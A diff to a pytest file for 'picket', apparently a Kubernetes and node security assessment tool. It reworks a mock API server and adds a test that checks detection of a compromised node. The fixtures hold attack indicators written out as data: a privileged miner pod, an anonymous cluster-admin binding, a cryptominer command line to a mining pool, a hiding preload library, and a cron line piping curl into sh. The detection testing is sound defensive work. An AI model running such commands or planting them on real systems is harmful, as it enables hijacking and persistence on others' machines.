@@ -1,159 +1,75 @@
-"""`picket assess --kubeconfig` against an API server that speaks TLS and pages: what a careless cluster is told, what a
-careful one is not, and what is said where the API refuses or is not there."""
+"""`picket assess --kubeconfig` against an API server that speaks the real protocol, with the role that we ship and pages
+of two: what a careless cluster is told, what a careful one is not, and what is said where the API refuses."""
 
 from __future__ import annotations
 
-import base64
 import json
 import os
-import ssl
 import subprocess
-import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any, Iterator
-from urllib.parse import parse_qs, urlsplit
 
 import pytest
+import yaml
+from kubernetes import builtin
+from kubernetes.api import Api as KubernetesApi
+from kubernetes.rbac import User
+from kubernetes.server import Server
+from kubernetes.static import Static
+from kubernetes.store import Store
+from kubernetes_objects import Object, careful, old_master, something_mines
 
 ROOT = Path(__file__).resolve().parents[2]
 PICKET = Path(os.environ.get("PICKET_CLI", ROOT / "target" / "debug" / "picket"))
-PAGE = 2
+READER = ROOT / "infra" / "kubernetes" / "reader.yaml"
 TOKEN = "let-me-in"
 
-Objects = dict[str, list[dict[str, Any]]]
 
-
-def bound(name: str, role: str, subject: dict[str, str]) -> dict[str, Any]:
-    return {
-        "metadata": {"name": name},
-        "roleRef": {"kind": "ClusterRole", "name": role},
-        "subjects": [subject],
-    }
-
-
-def pod(name: str, namespace: str, spec: dict[str, Any]) -> dict[str, Any]:
-    return {"metadata": {"name": name, "namespace": namespace}, "spec": spec}
-
-
-def careless() -> Objects:
+def careless() -> list[Object]:
     """A kops master of 2018 with a miner on it."""
-    server = "kube-apiserver --anonymous-auth=true --basic-auth-file=/x --insecure-port=8080 --authorization-mode=AlwaysAllow"
-    master = pod("kube-apiserver-m", "kube-system", {"nodeName": "m", "containers": [{"name": "a", "command": server.split()}]})
-    miner = pod("web", "default", {"hostPID": True, "containers": [
-        {"name": "web", "image": "attacker/xmrig:latest", "securityContext": {"privileged": True}},
-    ]})
-    return {
-        "/api/v1/namespaces": [{"metadata": {"name": n}} for n in ("default", "kube-system", "shop")],
-        "/api/v1/pods": [master, miner, pod("other", "shop", {"containers": [{"name": "o", "image": "nginx"}]})],
-        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings": [
-            bound("open", "cluster-admin", {"kind": "User", "name": "system:anonymous"}),
-        ],
-    }
-
-
-def careful() -> Objects:
-    """Nothing but a workload that keeps to everything."""
-    context = {"allowPrivilegeEscalation": False, "runAsNonRoot": True, "capabilities": {"drop": ["ALL"]},
-               "seccompProfile": {"type": "RuntimeDefault"}}
-    label = {"pod-security.kubernetes.io/enforce": "restricted"}
-    return {
-        "/api/v1/namespaces": [{"metadata": {"name": "shop", "labels": label}}],
-        "/api/v1/pods": [pod("web", "shop", {"automountServiceAccountToken": False, "serviceAccountName": "web", "containers": [
-            {"name": "web", "image": "registry.k8s.io/e2e/web@sha256:00", "securityContext": context},
-        ]})],
-        "/apis/networking.k8s.io/v1/networkpolicies": [
-            {"metadata": {"name": "deny", "namespace": "shop"}, "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"]}},
-        ],
-        "/apis/apps/v1/daemonsets": [
-            {"metadata": {"name": "calico-node", "namespace": "kube-system"},
-             "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "docker.io/calico/node:v3.30"}]}}}},
-        ],
-    }
-
-
-def make_certificates(folder: Path) -> None:
-    """An authority, and a certificate of it for loopback: a certificate that is its own authority is refused."""
-    (folder / "extensions").write_text("subjectAltName=IP:127.0.0.1\n")
-    for command in (
-        "req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=authority -keyout ca-key.pem -out ca.pem",
-        "req -newkey rsa:2048 -nodes -subj /CN=kubernetes -keyout key.pem -out request.pem",
-        "x509 -req -in request.pem -CA ca.pem -CAkey ca-key.pem -CAcreateserial -days 2 -extfile extensions -out cert.pem",
-    ):
-        subprocess.run(["openssl", *command.split()], cwd=folder, check=True, capture_output=True)
+    return [*old_master(), *something_mines()]
 
 
 class Api:
-    """The API server: HTTPS, a token, pages of two, and paths that are denied."""
+    """A cluster of nobody's, and a kubeconfig for it with a token of a group of readers."""
 
-    def __init__(self, folder: Path, objects: Objects, denied: frozenset[str] = frozenset()) -> None:
-        self.folder, self.objects, self.denied = folder, objects, denied
-        make_certificates(folder)
-        api = self
-
-        class Handler(BaseHTTPRequestHandler):
-            protocol_version = "HTTP/1.1"
-
-            def do_GET(self) -> None:
-                code, body = api.answer(self.path, self.headers.get("authorization", ""))
-                data = json.dumps(body).encode()
-                self.send_response(code)
-                self.send_header("content-type", "application/json")
-                self.send_header("content-length", str(len(data)))
-                self.end_headers()
-                self.wfile.write(data)
-
-            def log_message(self, *_: Any) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-        tls.load_cert_chain(folder / "cert.pem", folder / "key.pem")
-        self.server.socket = tls.wrap_socket(self.server.socket, server_side=True)
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
-
-    def answer(self, path: str, authorization: str) -> tuple[int, dict[str, Any]]:
-        def status(code: int, reason: str) -> tuple[int, dict[str, Any]]:
-            return code, {"kind": "Status", "status": "Failure", "code": code, "reason": reason, "message": reason, "metadata": {}}
-
-        if authorization != f"Bearer {TOKEN}":
-            return status(401, "Unauthorized")
-        parts = urlsplit(path)
-        if parts.path == "/version":
-            return 200, {"gitVersion": "v1.34.1"}
-        if parts.path in self.denied:
-            return status(403, "Forbidden")
-        if "cilium" in parts.path:
-            return status(404, "NotFound")
-        start = int(parse_qs(parts.query).get("continue", ["0"])[0])
-        found = self.objects.get(parts.path, [])
-        more = str(start + PAGE) if start + PAGE < len(found) else ""
-        return 200, {"kind": "List", "metadata": {"continue": more}, "items": found[start : start + PAGE]}
+    def __init__(self, folder: Path, objects: list[Object], without: str = "") -> None:
+        self.folder, store = folder, Store()
+        roles = [found for found in yaml.safe_load_all(READER.read_text())]
+        for found in [*builtin.objects("kubernetes"), *objects, *(less(role, without) for role in roles)]:
+            store.put(found)
+        tokens = Static({TOKEN: User("picket", ("picket:readers", "system:authenticated"))})
+        self.server = Server(KubernetesApi(store, tokens, "v1.34.1", most_in_a_page=2))
 
     def kubeconfig(self, token: str = TOKEN) -> Path:
-        authority = base64.b64encode((self.folder / "ca.pem").read_bytes()).decode()
         file = self.folder / f"kubeconfig-{token}"
+        cluster = {"server": self.server.endpoint, "certificate-authority-data": self.server.authority}
         file.write_text(json.dumps({
             "apiVersion": "v1", "kind": "Config", "current-context": "prod",
-            "clusters": [{"name": "c", "cluster": {
-                "server": f"https://127.0.0.1:{self.server.server_port}", "certificate-authority-data": authority}}],
+            "clusters": [{"name": "c", "cluster": cluster}],
             "users": [{"name": "u", "user": {"token": token}}],
             "contexts": [{"name": "prod", "context": {"cluster": "c", "user": "u"}}],
         }))
         return file
 
 
+def less(role: Object, resource: str) -> Object:
+    """A role without the lists of one resource."""
+    kept = [{**r, "resources": [x for x in r["resources"] if x != resource]} for r in role.get("rules", [])]
+    return {**role, "rules": kept} if "rules" in role else role
+
+
 @pytest.fixture
 def serve(tmp_path: Path) -> Iterator[Any]:
-    servers: list[Api] = []
+    started: list[Api] = []
 
-    def start(objects: Objects, denied: frozenset[str] = frozenset()) -> Api:
-        servers.append(Api(tmp_path, objects, denied))
-        return servers[-1]
+    def start(objects: list[Object], without: str = "") -> Api:
+        started.append(Api(tmp_path, objects, without))
+        return started[-1]
 
     yield start
-    for server in servers:
-        server.server.shutdown()
+    for api in started:
+        api.server.stop()
 
 
 def assess(kubeconfig: Path) -> tuple[int, dict[str, Any]]:
@@ -201,8 +117,7 @@ def test_a_careful_cluster_is_left_in_peace(serve: Any) -> None:
 
 
 def test_a_denied_list_is_unknown_with_the_grant_that_is_missing(serve: Any) -> None:
-    roles = "/apis/rbac.authorization.k8s.io/v1/roles"
-    _, answer = assess(serve(careless(), frozenset({roles})).kubeconfig())
+    _, answer = assess(serve(careless(), without="roles").kubeconfig())
     text = json.dumps(answer)
     assert "infra/kubernetes/reader.yaml" in text
     assert "kubernetes_cluster_admin_sparingly" not in found(answer)
@@ -213,3 +128,25 @@ def test_a_token_that_the_cluster_does_not_know_is_said_and_nothing_passes(serve
     _, answer = assess(serve(careless()).kubeconfig(token="stranger"))
     assert "access entry" in json.dumps(answer)
     assert found(answer) == set()
+
+
+def test_what_goes_on_in_a_node_raises_its_instance_with_the_evidence(tmp_path: Path) -> None:
+    report = tmp_path / "i-0123456789abcdef0.json"
+    report.write_text(json.dumps({
+        "schema": 1, "at": "2026-11-26T00:00:00Z",
+        "processes": {"7": {"argv": ["/tmp/x", "-o", "stratum+tcp://pool.supportxmr.com:443"]}},
+        "sockets": {"to_pools": [{"address": "203.0.113.9", "port": 3333, "pid": "7"}]},
+        "mining": {"preload": ["/usr/local/lib/hide.so"], "cron": ["* * * * * root curl x | sh"], "programs": ["/tmp/x"]},
+    }))
+    done = subprocess.run(
+        [PICKET, "assess", "--node", report, "--output", "json"],
+        capture_output=True, text=True, timeout=120, env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)},
+    )
+    assert done.stdout, done.stderr
+    risk = json.loads(done.stdout)["assets"][0]
+    assert risk["asset"] == "ec2.instance/i-0123456789abcdef0" and risk["score"] >= 95
+    mines, hides = risk["reasons"][:2]
+    assert (mines["signal"], hides["signal"]) == ("live_critical", "live_high")
+    assert "stratum" in mines["evidence"] and "203.0.113.9:3333" in mines["evidence"], mines
+    for sign in ("hide.so", "curl x | sh", "/tmp/x"):
+        assert sign in hides["evidence"], hides
